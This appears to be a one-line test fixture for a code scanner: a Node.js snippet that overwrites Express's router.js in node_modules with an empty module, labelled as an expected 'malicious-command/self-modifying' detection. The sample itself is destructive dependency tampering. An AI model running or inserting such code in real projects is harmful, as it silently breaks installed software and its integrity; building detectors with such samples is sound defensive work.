const fs = require('fs');

fs.writeFileSync('node_modules/express/lib/router.js', 'module.exports = {};'); // expect: malicious-command/self-modifying
